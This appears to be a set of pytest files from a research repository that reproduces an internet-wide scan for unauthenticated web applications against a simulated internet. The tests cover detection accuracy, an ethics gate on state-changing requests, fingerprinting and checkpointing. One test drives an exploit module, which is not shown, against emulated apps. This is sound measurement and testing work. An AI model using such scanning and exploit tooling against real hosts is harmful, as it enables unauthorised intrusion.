    def test_zero_false_positives(self, tiny_scan_study):
        truth = {
            h.ip.value for h in tiny_scan_study.internet.true_vulnerable_hosts()
        }
        found = {ip.value for ip in tiny_scan_study.report.vulnerable_ips()}
        assert found <= truth

    def test_zero_false_negatives(self, tiny_scan_study):
        truth = {
            h.ip.value for h in tiny_scan_study.internet.true_vulnerable_hosts()
        }
        found = {ip.value for ip in tiny_scan_study.report.vulnerable_ips()}
        assert truth <= found

    def test_app_attribution_correct(self, tiny_scan_study):
        """Every observation names an app the host actually runs."""
        for finding in tiny_scan_study.report.findings.values():
            host = tiny_scan_study.internet.host_at(finding.ip)
            actual = {instance.slug for instance in host.apps()}
            assert set(finding.observations) <= actual

    def test_every_awe_host_found(self, tiny_scan_study):
        """Stage II must not lose hosts that run an in-scope app."""
        in_scope = {p.slug for p in PAPER_PREVALENCE}
        expected = {
            host.ip.value
            for host in tiny_scan_study.internet.awe_hosts()
            if any(i.slug in in_scope for i in host.apps())
        }
        assert expected <= set(tiny_scan_study.report.findings)

    def test_fingerprint_versions_match_ground_truth(self, tiny_scan_study):
        checked = 0
        for observation in tiny_scan_study.report.observations():
            if observation.fingerprint is None:
                continue
            host = tiny_scan_study.internet.host_at(observation.ip)
            app = host.app_instance(observation.slug)
            if app is None:
                continue
            assert app.version == observation.fingerprint.version
            checked += 1
        assert checked > 50

    def test_most_hosts_fingerprinted(self, tiny_scan_study):
        observations = tiny_scan_study.report.observations()
        fingerprinted = sum(1 for o in observations if o.fingerprint)
        assert fingerprinted / len(observations) > 0.9


class TestCalibratedCounts:
    """With vuln_rate=1.0 the pipeline reproduces Table 3's MAV column."""

    def test_total_is_4221(self, calibrated_scan_study):
        assert len(calibrated_scan_study.report.vulnerable_ips()) == 4221

    def test_per_app_mavs_match_paper_exactly(self, calibrated_scan_study):
        mavs = calibrated_scan_study.report.mavs_per_app()
        for prevalence in PAPER_PREVALENCE:
            assert mavs.get(prevalence.slug, 0) == prevalence.mavs, prevalence.slug

    def test_docker_hadoop_nomad_majority_vulnerable(self, calibrated_scan_study):
        """Table 3: exposed Docker/Hadoop/Nomad are mostly vulnerable."""
        report = calibrated_scan_study.report
        mavs = report.mavs_per_app()
        census = calibrated_scan_study.census
        for slug in ("docker", "hadoop", "nomad"):
            # Weighted host estimate vs raw MAV count.
            weighted = sum(
                census.weight_of(f.ip)
                for f in report.findings.values()
                if slug in f.observations
            )
            assert mavs[slug] / weighted > 0.5, slug

    def test_cms_mav_share_is_negligible(self, calibrated_scan_study):
        report = calibrated_scan_study.report
        census = calibrated_scan_study.census
        weighted = sum(
            census.weight_of(f.ip)
            for f in report.findings.values()
            if "wordpress" in f.observations
        )
        assert report.mavs_per_app()["wordpress"] / weighted < 0.01


class TestEthics:
    def test_pipeline_never_posts(self, tiny_scan_study):
        # The transport enforces this; reaching here means no violation
        # was raised during the session-scoped scan.  Double-check the
        # enforcement flag is on.
        assert tiny_scan_study.transport.enforce_ethics

    def test_request_volume_bounded_per_host(self, pipeline_factory):
        """No single host sees an excessive number of requests in one
        sweep (a fresh pipeline, so observer re-scans don't pollute the
        accounting)."""
        from repro.net.population import PopulationModel, generate_internet

        internet, _geo, _census = generate_internet(
            PopulationModel(awe_rate=0.001, vuln_rate=0.02,
                            background_rate=1e-7, seed=99)
        )
        pipeline = pipeline_factory(internet, fingerprint=True)
        pipeline.run(internet.populated_addresses())
        per_24 = pipeline.transport.stats.requests_per_slash24
        assert max(per_24.values()) < 60  # prefilter+plugins+fingerprint


class TestRescan:
    def test_rescan_refinds_vulnerable_hosts(self, tiny_scan_study, pipeline_factory):
        pipeline = pipeline_factory(tiny_scan_study.internet)
        vulnerable = tiny_scan_study.report.vulnerable_ips()
        ports = {
            ip.value: tiny_scan_study.report.port_scan.ports_of(ip)
            for ip in vulnerable
        }
        rescan = pipeline.rescan_hosts(vulnerable, ports)
        assert len(rescan.vulnerable_ips()) == len(vulnerable)

    def test_rescan_sees_fixes(self, tiny_scan_study, pipeline_factory):
        import copy

        # Work on a private copy of one vulnerable host's app config.
        target = tiny_scan_study.report.vulnerable_ips()[0]
        host = tiny_scan_study.internet.host_at(target)
        instance = next(i for i in host.apps() if i.app.is_vulnerable())
        saved = copy.deepcopy(instance.app.config)
        try:
            try:
                instance.app.secure()
            except NotImplementedError:
                pytest.skip("app cannot be secured in place")
            pipeline = pipeline_factory(tiny_scan_study.internet)
            rescan = pipeline.rescan_hosts([target])
            assert target.value not in {
                ip.value for ip in rescan.vulnerable_ips()
            }
        finally:
            instance.app.config.clear()
            instance.app.config.update(saved)
