"""Error-path coverage: ethics enforcement through decorator chains and
plugin-crash isolation in the Tsunami engine."""

import logging

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance
from repro.core.tsunami.engine import TsunamiEngine
from repro.core.tsunami.plugin import MavDetectionPlugin
from repro.core.tsunami.plugins import plugin_for
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.flaky import FlakyTransport
from repro.net.host import Host, Service
from repro.net.http import HttpRequest, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import EthicsViolation, InMemoryTransport


@pytest.fixture()
def world():
    internet = SimulatedInternet()
    ip = IPv4Address.parse("93.184.216.80")
    host = Host(ip)
    host.add_service(
        Service(8192, app=AppInstance(create_instance("polynote"), 8192))
    )
    internet.add_host(host)
    return internet, ip


class TestEthicsThroughDecorators:
    """The ethics gate must hold no matter how the transport is wrapped."""

    def chain(self, internet, enforce=True):
        return FlakyTransport(
            ChaosTransport(
                InMemoryTransport(internet, enforce_ethics=enforce), FaultPlan()
            )
        )

    @pytest.mark.parametrize(
        "request_",
        [
            HttpRequest.post("/admin"),
            HttpRequest("PUT", "/api/settings"),
            HttpRequest("DELETE", "/api/users/1"),
        ],
    )
    def test_state_changing_requests_refused(self, world, request_):
        internet, ip = world
        chain = self.chain(internet)
        with pytest.raises(EthicsViolation):
            chain.request(ip, 8192, Scheme.HTTP, request_)

    def test_refused_requests_never_reach_the_wire(self, world):
        internet, ip = world
        chain = self.chain(internet)
        with pytest.raises(EthicsViolation):
            chain.request(ip, 8192, Scheme.HTTP, HttpRequest.post("/ws"))
        assert chain.stats.http_requests == 0

    def test_opt_out_is_explicit_and_propagates(self, world):
        """Honeypot/attacker components run with enforcement off."""
        internet, ip = world
        chain = self.chain(internet, enforce=False)
        assert not chain.enforce_ethics
        response = chain.request(ip, 8192, Scheme.HTTP, HttpRequest.post("/ws"))
        assert response is not None


class Crashing(MavDetectionPlugin):
    slug = "crashing"

    def detect(self, context):
        raise RuntimeError("kaboom: plugin bug")


class TestPluginCrashIsolation:
    def engine(self, internet):
        return TsunamiEngine(
            InMemoryTransport(internet),
            plugins=(Crashing(), plugin_for("polynote")),
        )

    def test_other_plugins_detections_survive_a_crash(self, world):
        internet, ip = world
        engine = self.engine(internet)
        reports = engine.scan_target(
            ip, 8192, Scheme.HTTP, ("crashing", "polynote")
        )
        assert [report.slug for report in reports] == ["polynote"]
        assert engine.stats.plugin_errors == 1
        assert engine.stats.detections == 1

    def test_crash_is_logged_with_plugin_and_target(self, world, caplog):
        internet, ip = world
        engine = self.engine(internet)
        with caplog.at_level(logging.ERROR, logger="repro.core.tsunami.engine"):
            engine.scan_target(ip, 8192, Scheme.HTTP, ("crashing", "polynote"))
        crash_logs = [
            record for record in caplog.records
            if "crashed" in record.getMessage()
        ]
        assert len(crash_logs) == 1
        message = crash_logs[0].getMessage()
        assert "crashing" in message
        assert "93.184.216.80" in message
        assert "kaboom" in str(crash_logs[0].exc_text)  # traceback attached

    def test_repeated_crashes_do_not_abort_a_batch(self, world):
        internet, ip = world
        engine = self.engine(internet)
        for _ in range(5):
            reports = engine.scan_target(
                ip, 8192, Scheme.HTTP, ("crashing", "polynote")
            )
            assert [report.slug for report in reports] == ["polynote"]
        assert engine.stats.plugin_errors == 5
