"""Tests for checkpoint/resume: a killed sweep continues losslessly."""

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance, scanned_ports
from repro.core.checkpoint import Checkpointer, check_config_matches
from repro.core.pipeline import ScanPipeline
from repro.core.retry import RetryPolicy
from repro.core.serialize import report_to_dict
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.host import Host, Service
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport, Transport
from repro.util.clock import SimClock
from repro.util.errors import ConfigError


class TestCheckpointer:
    def test_load_returns_none_before_first_save(self, tmp_path):
        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        assert not ckpt.exists()
        assert ckpt.load() is None

    def test_save_load_round_trip(self, tmp_path):
        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        ckpt.save({"completed_addresses": 7, "seed": 3})
        payload = ckpt.load()
        assert payload["completed_addresses"] == 7
        assert payload["format_version"] == 1

    def test_save_replaces_atomically(self, tmp_path):
        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        ckpt.save({"completed_addresses": 3})
        ckpt.save({"completed_addresses": 6})
        assert ckpt.load()["completed_addresses"] == 6
        assert not (tmp_path / "scan.ckpt.tmp").exists()

    def test_clear(self, tmp_path):
        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        ckpt.save({})
        ckpt.clear()
        assert not ckpt.exists()
        ckpt.clear()  # idempotent

    def test_unknown_format_version_refused(self, tmp_path):
        path = tmp_path / "scan.ckpt"
        path.write_text('{"format_version": 999}')
        with pytest.raises(ConfigError):
            Checkpointer(path).load()

    def test_cadence(self, tmp_path):
        ckpt = Checkpointer(tmp_path / "scan.ckpt", every_batches=3)
        assert [ckpt.due(n) for n in (1, 2, 3, 4, 5, 6)] == [
            False, False, True, False, False, True,
        ]
        with pytest.raises(ValueError):
            Checkpointer(tmp_path / "x", every_batches=0)

    def test_config_mismatch_detection(self):
        payload = {"seed": 3, "ports": [80, 443]}
        check_config_matches(payload, seed=3, ports=[80, 443])
        with pytest.raises(ConfigError):
            check_config_matches(payload, seed=4)
        with pytest.raises(ConfigError):
            check_config_matches(payload, ports=[80])


class SimulatedCrash(BaseException):
    """A kill signal: deliberately not an Exception, so no layer of the
    pipeline (plugin isolation included) can swallow it."""


class KillSwitch(Transport):
    """Decorator that dies after a fixed number of wire operations."""

    def __init__(self, inner: Transport, die_after: int) -> None:
        super().__init__(enforce_ethics=inner.enforce_ethics)
        self.inner = inner
        self.stats = inner.stats
        self.die_after = die_after
        self.operations = 0

    def _tick(self) -> None:
        self.operations += 1
        if self.operations > self.die_after:
            raise SimulatedCrash(f"killed after {self.die_after} operations")

    def _port_open(self, ip, port):
        self._tick()
        return self.inner._port_open(ip, port)

    def _exchange(self, ip, port, scheme, request):
        self._tick()
        return self.inner._exchange(ip, port, scheme, request)

    def fetch_certificate(self, ip, port):
        self._tick()
        return self.inner.fetch_certificate(ip, port)

    # resume state lives in the wrapped (chaos) transport
    def snapshot_state(self):
        return self.inner.snapshot_state()

    def restore_state(self, state):
        self.inner.restore_state(state)


PLAN = FaultPlan(
    syn_loss=0.05, request_loss=0.05, reset_rate=0.02,
    flap_rate=0.2, flap_down=120.0, flap_period=600.0,
)

APPS = (
    ("polynote", 8192), ("docker", 2375), ("hadoop", 8088), ("grav", 80),
    ("consul", 8500), ("zeppelin", 8080), ("nomad", 4646), ("ajenti", 8000),
    ("jenkins", 8080), ("adminer", 80),
)


def build_world():
    """Ten AWE hosts spread over two /24 blocks; fresh instance per arm."""
    internet = SimulatedInternet()
    ips = []
    for index, (slug, port) in enumerate(APPS):
        # two routable /24s (TEST-NET blocks would be excluded by stage I)
        octet3 = 100 + index % 2
        ip = IPv4Address.parse(f"93.184.{octet3}.{10 + index}")
        host = Host(ip)
        host.add_service(Service(port, app=AppInstance(create_instance(slug), port)))
        internet.add_host(host)
        ips.append(ip)
    return internet, ips


def run_arm(die_after=None, checkpoint=None, seed=3):
    """One pipeline sweep over a freshly built world."""
    internet, ips = build_world()
    clock = SimClock()
    transport = ChaosTransport(
        InMemoryTransport(internet), PLAN, seed=21, clock=clock
    )
    if die_after is not None:
        transport = KillSwitch(transport, die_after)
    pipeline = ScanPipeline(
        transport, scanned_ports(), seed=seed, batch_size=3, fingerprint=False,
        retry_policy=RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=4.0),
        clock=clock,
    )
    return pipeline.run(ips, checkpoint=checkpoint)


class TestResume:
    def test_checkpointing_does_not_change_the_report(self, tmp_path):
        plain = report_to_dict(run_arm())
        checkpointed = report_to_dict(
            run_arm(checkpoint=Checkpointer(tmp_path / "scan.ckpt"))
        )
        assert checkpointed == plain

    @pytest.mark.parametrize("die_after", [50, 120, 200])
    def test_crash_mid_sweep_then_resume_equals_uninterrupted(
        self, tmp_path, die_after
    ):
        """Acceptance: kill the sweep, resume it, get the identical report."""
        expected = report_to_dict(run_arm())
        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        with pytest.raises(SimulatedCrash):
            run_arm(die_after=die_after, checkpoint=ckpt)
        resumed = run_arm(checkpoint=ckpt)
        assert report_to_dict(resumed) == expected

    def test_resume_skips_completed_addresses(self, tmp_path):
        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        with pytest.raises(SimulatedCrash):
            run_arm(die_after=200, checkpoint=ckpt)
        completed = ckpt.load()["completed_addresses"]
        assert completed > 0  # at least one batch landed before the kill

        internet, ips = build_world()
        clock = SimClock()
        transport = ChaosTransport(
            InMemoryTransport(internet), PLAN, seed=21, clock=clock
        )
        pipeline = ScanPipeline(
            transport, scanned_ports(), seed=3, batch_size=3, fingerprint=False,
            retry_policy=RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=4.0),
            clock=clock,
        )
        pipeline.run(ips, checkpoint=ckpt)
        # only the remaining addresses were probed on the wire after resume:
        # at most max_attempts probes per port, and zero for completed hosts
        ceiling = (len(ips) - completed) * len(scanned_ports()) * 3
        assert 0 < transport.stats.syn_probes <= ceiling

    def test_resume_refuses_mismatched_config(self, tmp_path):
        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        with pytest.raises(SimulatedCrash):
            run_arm(die_after=200, checkpoint=ckpt)
        with pytest.raises(ConfigError):
            run_arm(checkpoint=ckpt, seed=4)

    def test_successful_completion_clears_the_checkpoint(self, tmp_path):
        """A stale file after success would hijack the next sweep: a run
        over a *different* candidate list (same config) would load it and
        silently skip everything."""
        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        run_arm(checkpoint=ckpt)
        assert not ckpt.exists()

    def test_checkpointer_without_file_is_a_fresh_run(self, tmp_path):
        expected = report_to_dict(run_arm())
        fresh = run_arm(checkpoint=Checkpointer(tmp_path / "never-saved.ckpt"))
        assert report_to_dict(fresh) == expected

    def test_works_without_retry_policy_too(self, tmp_path):
        """Checkpointing is independent of the retry layer."""
        def arm(die_after=None, checkpoint=None):
            internet, ips = build_world()
            transport = ChaosTransport(InMemoryTransport(internet), PLAN, seed=21)
            if die_after is not None:
                transport = KillSwitch(transport, die_after)
            pipeline = ScanPipeline(
                transport, scanned_ports(), seed=3, batch_size=3,
                fingerprint=False,
            )
            return pipeline.run(ips, checkpoint=checkpoint)

        expected = report_to_dict(arm())
        ckpt = Checkpointer(tmp_path / "scan.ckpt")
        with pytest.raises(SimulatedCrash):
            arm(die_after=90, checkpoint=ckpt)
        assert report_to_dict(arm(checkpoint=ckpt)) == expected
