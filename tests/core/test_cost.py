"""Tests for the scan cost model against the paper's deployment claims."""

import pytest

from repro.core.cost import MachineSpec, ScanCostModel, ScanWorkload
from repro.util.clock import DAY


class TestWorkload:
    def test_internet_wide_probe_count(self):
        workload = ScanWorkload.internet_wide()
        # 12 ports x ~3.5B addresses = 42B SYN probes.
        assert workload.syn_probes == pytest.approx(4.2e10)

    def test_http_work_scales_with_responsiveness(self):
        quiet = ScanWorkload.internet_wide(responsive_fraction=0.01)
        noisy = ScanWorkload.internet_wide(responsive_fraction=0.05)
        assert noisy.http_requests == pytest.approx(5 * quiet.http_requests)


class TestCostModel:
    def test_paper_fleet_finishes_under_a_day(self):
        """64 x 48-core machines: 'the experiment lasted about 22 hours'."""
        model = ScanCostModel(machines=64)
        hours = model.total_hours(ScanWorkload.internet_wide())
        assert 5 < hours < 24

    def test_single_machine_cannot(self):
        model = ScanCostModel(machines=1)
        assert model.total_hours(ScanWorkload.internet_wide()) > 24

    def test_more_machines_strictly_faster(self):
        workload = ScanWorkload.internet_wide()
        small = ScanCostModel(machines=8).total_seconds(workload)
        large = ScanCostModel(machines=128).total_seconds(workload)
        assert large < small

    def test_machines_needed_matches_total(self):
        workload = ScanWorkload.internet_wide()
        needed = ScanCostModel().machines_needed(workload, 1 * DAY)
        assert 1 <= needed <= 64
        model = ScanCostModel(machines=needed)
        assert model.total_seconds(workload) <= 1 * DAY
        if needed > 1:
            assert ScanCostModel(machines=needed - 1).total_seconds(workload) > 1 * DAY

    def test_invalid_deadline(self):
        with pytest.raises(ValueError):
            ScanCostModel().machines_needed(ScanWorkload.internet_wide(), 0)

    def test_stage_breakdown_positive(self):
        workload = ScanWorkload.internet_wide()
        model = ScanCostModel()
        assert model.stage1_seconds(workload) > 0
        assert model.stage23_seconds(workload) > 0
        assert model.total_seconds(workload) >= max(
            model.stage1_seconds(workload), model.stage23_seconds(workload)
        )

    def test_custom_machine_spec(self):
        slow = MachineSpec(cores=4, syn_probes_per_second=1000.0,
                           http_concurrency_per_core=4)
        model = ScanCostModel(machines=64, machine=slow)
        assert model.total_hours(ScanWorkload.internet_wide()) > 24


class TestObservedVersionUpdates:
    def test_observer_measures_updates(self, observer_study):
        """The re-fingerprinting pass sees some (few) version changes."""
        total = len(observer_study.log.hosts)
        observed = observer_study.observed_version_updates
        # Paper: 2.4%; tolerate the small-sample range, and observed
        # can't exceed planned (offline hosts hide their update).
        assert 0 <= observed <= max(10, int(0.1 * total))
        assert observed <= observer_study.version_updates + 2
