"""Tests for the version fingerprinter (knowledge base, crawler, both
disclosure channels)."""

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance, in_scope_apps
from repro.apps.versions import RELEASE_DB
from repro.core.fingerprint.crawler import StaticFileCrawler, extract_resource_paths
from repro.core.fingerprint.disclosure import (
    DISCLOSURE_EXTRACTORS,
    extract_disclosed_version,
)
from repro.core.fingerprint.fingerprinter import (
    FingerprintMethod,
    VersionFingerprinter,
)
from repro.core.fingerprint.knowledge_base import (
    KnowledgeBase,
    build_default_knowledge_base,
    file_hash,
)
from repro.core.tsunami.plugin import PluginContext
from repro.net.host import Host, Service
from repro.net.http import Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport


@pytest.fixture(scope="module")
def kb():
    return build_default_knowledge_base()


def host_with(slug, version=None, vulnerable=False, port=80):
    internet = SimulatedInternet()
    ip = IPv4Address.parse("100.64.0.0").value  # placeholder, replaced below
    ip = IPv4Address.parse("93.184.216.100")
    host = Host(ip)
    app = create_instance(slug, version=version, vulnerable=vulnerable)
    host.add_service(Service(port, app=AppInstance(app, port)))
    internet.add_host(host)
    return internet, ip, app


class TestKnowledgeBase:
    def test_covers_every_app_with_static_files(self, kb):
        for spec in in_scope_apps():
            instance = create_instance(spec.slug)
            if instance.static_files():
                assert kb.paths_for(spec.slug), spec.slug

    def test_identify_exact_version(self, kb):
        app = create_instance("wordpress", version="5.6")
        observations = {
            path: file_hash(content)
            for path, content in app.static_files().items()
        }
        assert kb.identify(observations) == ("wordpress", "5.6")

    def test_identify_empty_observations(self, kb):
        assert kb.identify({}) is None

    def test_identify_unknown_hashes(self, kb):
        assert kb.identify({"/x.js": file_hash("unknown content")}) is None

    def test_lookup_returns_entries(self, kb):
        app = create_instance("grav", version="1.6")
        path, content = next(iter(app.static_files().items()))
        entries = kb.lookup(file_hash(content))
        assert any(e.slug == "grav" and e.version == "1.6" for e in entries)

    def test_len_counts_entries(self, kb):
        assert len(kb) > 100

    def test_tie_breaks_to_newest(self):
        custom = KnowledgeBase()
        custom.add("wordpress", "5.6", "/a.js", "same")
        custom.add("wordpress", "5.7", "/a.js", "same")
        assert custom.identify({"/a.js": file_hash("same")}) == ("wordpress", "5.7")


class TestCrawler:
    def test_extract_resource_paths(self):
        body = (
            '<script src="/a/b.js"></script>'
            '<link href="style.css">'
            '<img src="https://cdn.example/x.png">'
            '<a href="/page.html">x</a>'
        )
        assert extract_resource_paths(body) == ["/a/b.js", "/style.css"]

    def test_crawl_collects_hashes(self, kb):
        internet, ip, app = host_with("wordpress", version="5.4")
        crawler = StaticFileCrawler(InMemoryTransport(internet))
        observations = crawler.crawl(ip, 80, Scheme.HTTP, ("wordpress",), kb)
        assert observations
        assert kb.identify(observations) == ("wordpress", "5.4")

    def test_crawl_respects_fetch_budget(self, kb):
        internet, ip, app = host_with("wordpress")
        transport = InMemoryTransport(internet)
        crawler = StaticFileCrawler(transport, max_fetches=2)
        crawler.crawl(ip, 80, Scheme.HTTP, ("wordpress",), kb)
        assert transport.stats.http_requests <= 3  # landing + budget

    def test_crawl_dark_host_returns_nothing(self, kb):
        crawler = StaticFileCrawler(InMemoryTransport(SimulatedInternet()))
        assert crawler.crawl(IPv4Address(42), 80, Scheme.HTTP, (), kb) == {}

    def test_crawl_counts_fetch_outcomes(self, kb):
        from repro.obs.telemetry import Telemetry

        internet, ip, app = host_with("wordpress", version="5.4")
        telemetry = Telemetry()
        crawler = StaticFileCrawler(
            InMemoryTransport(internet), telemetry=telemetry
        )
        crawler.crawl(ip, 80, Scheme.HTTP, ("wordpress",), kb)
        ok = telemetry.metrics.counter_value(
            "crawler_fetches_total", outcome="ok"
        )
        assert ok >= 1

    def test_crawl_counts_dark_host_as_error(self, kb):
        from repro.obs.telemetry import Telemetry

        telemetry = Telemetry()
        crawler = StaticFileCrawler(
            InMemoryTransport(SimulatedInternet()), telemetry=telemetry
        )
        crawler.crawl(IPv4Address(42), 80, Scheme.HTTP, (), kb)
        assert telemetry.metrics.counter_value(
            "crawler_fetches_total", outcome="error"
        ) == 1


class TestDisclosure:
    def test_thirteen_disclosing_apps(self):
        # The paper: version extracted directly for 13 applications.
        assert len(DISCLOSURE_EXTRACTORS) == 13

    @pytest.mark.parametrize("slug", sorted(DISCLOSURE_EXTRACTORS))
    def test_extractor_finds_version_on_vulnerable_instance(self, slug):
        spec_port = 80
        internet, ip, app = host_with(slug, vulnerable=True, port=spec_port)
        context = PluginContext(InMemoryTransport(internet), ip, spec_port, Scheme.HTTP)
        assert extract_disclosed_version(context, slug) == app.version

    @pytest.mark.parametrize(
        "slug", ["jenkins", "kubernetes", "jupyter-notebook", "phpmyadmin"]
    )
    def test_extractor_works_on_secured_instance_too(self, slug):
        internet, ip, app = host_with(slug)
        context = PluginContext(InMemoryTransport(internet), ip, 80, Scheme.HTTP)
        assert extract_disclosed_version(context, slug) == app.version

    def test_non_disclosing_app_returns_none(self):
        internet, ip, app = host_with("polynote")
        context = PluginContext(InMemoryTransport(internet), ip, 80, Scheme.HTTP)
        assert extract_disclosed_version(context, "polynote") is None


class TestVersionFingerprinter:
    def test_disclosure_preferred(self, kb):
        internet, ip, app = host_with("docker", vulnerable=True)
        fingerprinter = VersionFingerprinter(InMemoryTransport(internet), kb)
        result = fingerprinter.fingerprint(ip, 80, Scheme.HTTP, ("docker",))
        assert result.version == app.version
        assert result.method is FingerprintMethod.DISCLOSURE

    def test_hash_fallback_for_non_disclosing_apps(self, kb):
        internet, ip, app = host_with("polynote")
        fingerprinter = VersionFingerprinter(InMemoryTransport(internet), kb)
        result = fingerprinter.fingerprint(ip, 80, Scheme.HTTP, ("polynote",))
        assert result is not None
        assert result.method is FingerprintMethod.HASH_MATCH
        assert result.version == app.version

    def test_hash_only_mode(self, kb):
        internet, ip, app = host_with("wordpress", version="5.3")
        fingerprinter = VersionFingerprinter(
            InMemoryTransport(internet), kb, use_disclosure=False
        )
        result = fingerprinter.fingerprint(ip, 80, Scheme.HTTP, ("wordpress",))
        assert result.method is FingerprintMethod.HASH_MATCH
        assert result.version == "5.3"

    def test_disclosure_only_mode_misses_quiet_apps(self, kb):
        internet, ip, app = host_with("ajenti", port=8000)
        fingerprinter = VersionFingerprinter(
            InMemoryTransport(internet), kb, use_hashes=False
        )
        assert fingerprinter.fingerprint(ip, 8000, Scheme.HTTP, ("ajenti",)) is None

    def test_unidentifiable_host_returns_none(self, kb):
        fingerprinter = VersionFingerprinter(
            InMemoryTransport(SimulatedInternet()), kb
        )
        assert fingerprinter.fingerprint(IPv4Address(9), 80, Scheme.HTTP, ()) is None

    @pytest.mark.parametrize("spec", in_scope_apps(), ids=lambda s: s.slug)
    def test_every_app_fingerprintable_at_any_release(self, spec, kb):
        """Oldest and newest release of every app must be identifiable.

        Vulnerable instances are used because some hardened deployments
        legitimately hide everything (see the Docker test below).
        """
        releases = RELEASE_DB.releases(spec.slug)
        for release in (releases[0], releases[-1]):
            version = release.version
            try:
                internet, ip, app = host_with(spec.slug, version=version,
                                              vulnerable=True)
            except Exception:
                # e.g. Adminer >= 4.6.3 cannot be made vulnerable.
                internet, ip, app = host_with(spec.slug, version=version)
            fingerprinter = VersionFingerprinter(InMemoryTransport(internet), kb)
            result = fingerprinter.fingerprint(
                ip, 80, Scheme.HTTP, (spec.slug,)
            )
            assert result is not None, (spec.slug, version)
            assert result.version == version

    def test_hardened_docker_hides_its_version(self, kb):
        """A TLS-protected Docker API reveals nothing to fingerprint —
        a real measurement limitation, preserved by the emulator."""
        internet, ip, app = host_with("docker")
        fingerprinter = VersionFingerprinter(InMemoryTransport(internet), kb)
        assert fingerprinter.fingerprint(ip, 80, Scheme.HTTP, ("docker",)) is None
