"""Systematic correctness matrix over the full (app, release, state) grid.

The paper tested its pipeline "on both the newest and oldest stable
releases we could find" and worried about versions in between breaking
detection.  With emulators we can afford the full grid: every in-scope
application, *every* release in the database, in both the vulnerable and
the secured state — the pipeline's verdict must equal ground truth for
every cell, and the prefilter must keep every cell attributable.
"""

import pytest

from repro.apps.catalog import in_scope_apps
from repro.apps.versions import RELEASE_DB
from repro.core.prefilter import match_signatures
from repro.core.tsunami.plugins import plugin_for
from repro.net.http import HttpRequest
from tests.core.test_plugins import make_context


def _instances_for(spec):
    """All (app, expected_vulnerable) cells of one application."""
    cells = []
    for release in RELEASE_DB.releases(spec.slug):
        # vulnerable configuration, where this version supports one
        overrides = dict(spec.insecure_overrides or {})
        candidate = spec.emulator(release.version, dict(overrides))
        if candidate.is_vulnerable():
            cells.append((candidate, True))
        # secured configuration
        secured = spec.emulator(release.version, {})
        if secured.is_vulnerable():
            try:
                secured.secure()
            except NotImplementedError:
                continue  # Polynote: no secured state exists
        cells.append((secured, False))
    return cells


@pytest.mark.parametrize("spec", in_scope_apps(), ids=lambda s: s.slug)
def test_plugin_verdict_equals_ground_truth_for_every_release(spec):
    plugin = plugin_for(spec.slug)
    for app, expected in _instances_for(spec):
        context = make_context(app, port=spec.default_ports[0])
        report = plugin.detect(context)
        assert (report is not None) == expected, (
            f"{spec.slug} v{app.version} expected vulnerable={expected}"
        )


@pytest.mark.parametrize("spec", in_scope_apps(), ids=lambda s: s.slug)
def test_prefilter_attributes_every_release(spec):
    for app, _expected in _instances_for(spec):
        response = app.handle(HttpRequest.get("/"))
        hops = 5
        while response.is_redirect and hops:
            response = app.handle(HttpRequest.get(response.location or "/"))
            hops -= 1
        assert spec.slug in match_signatures(response.body), (
            f"{spec.slug} v{app.version} lost by the prefilter"
        )


@pytest.mark.parametrize("spec", in_scope_apps(), ids=lambda s: s.slug)
def test_exploit_driver_matches_ground_truth_for_every_release(spec):
    """The kill chain works iff the instance is actually vulnerable."""
    from repro.attacker.exploits import exploit_requests
    from repro.attacker.payloads import recon_variant

    payload = recon_variant("matrix", 0)
    for app, expected in _instances_for(spec):
        for request in exploit_requests(spec.slug, payload):
            app.handle(request)
        executed = bool(app.drain_executions())
        assert executed == expected, (
            f"{spec.slug} v{app.version} exploit={executed}, expected {expected}"
        )
