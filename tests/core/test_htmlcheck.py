"""Tests for the HTML inspection helpers."""

from repro.core.tsunami.htmlcheck import (
    has_element,
    has_element_within,
    is_valid_html,
)


class TestIsValidHtml:
    def test_wellformed(self):
        assert is_valid_html("<html><body><p>hi</p></body></html>")

    def test_empty_is_invalid(self):
        assert not is_valid_html("")

    def test_plain_text_is_invalid(self):
        assert not is_valid_html("just text, no tags")

    def test_stray_close_tag_is_invalid(self):
        assert not is_valid_html("</div><p>x</p>")

    def test_void_elements_ok(self):
        assert is_valid_html('<form><input name="a"><br></form>')


class TestHasElement:
    def test_by_tag(self):
        assert has_element("<form></form>", "form")

    def test_by_tag_and_id(self):
        assert has_element('<form id="setup"></form>', "form", "setup")
        assert not has_element('<form id="other"></form>', "form", "setup")

    def test_missing_tag(self):
        assert not has_element("<div></div>", "form")

    def test_self_closing(self):
        assert has_element('<input id="pass1"/>', "input", "pass1")


class TestHasElementWithin:
    def test_direct_child(self):
        body = '<form id="setup"><input id="pass1"></form>'
        assert has_element_within(body, "form", "setup", "input", "pass1")

    def test_nested_descendant(self):
        body = '<form id="setup"><div><input id="pass1"></div></form>'
        assert has_element_within(body, "form", "setup", "input", "pass1")

    def test_sibling_not_contained(self):
        body = '<form id="setup"></form><input id="pass1">'
        assert not has_element_within(body, "form", "setup", "input", "pass1")

    def test_wrong_outer_id(self):
        body = '<form id="login"><input id="pass1"></form>'
        assert not has_element_within(body, "form", "setup", "input", "pass1")

    def test_wildcard_ids(self):
        body = "<form><input></form>"
        assert has_element_within(body, "form", None, "input", None)
