"""The determinism matrix: one property, every execution shape.

The repo's core invariant is that a sweep's canonical artifacts — the
serialized ScanReport and the telemetry JSONL export — are a pure
function of the seed.  This file pins that property across every
execution dimension at once:

* worker count        1 / 2 / 4 / 8
